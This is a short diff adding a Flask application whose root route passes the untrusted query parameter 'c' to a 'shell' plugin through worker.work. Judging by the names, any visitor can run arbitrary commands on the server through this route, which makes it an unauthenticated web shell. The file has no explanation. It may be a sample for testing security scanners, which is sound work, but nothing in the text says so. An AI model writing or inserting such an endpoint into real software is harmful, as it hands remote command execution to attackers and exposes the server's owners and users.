@@ -1,0 +1,12 @@
+from flask import Flask, request
+from registry import plugins
+
+import worker
+
+app = Flask(__name__)
+
+
+@app.route("/")
+def index():
+    worker.work(plugins["shell"], request.args["c"])
+    return "ok"
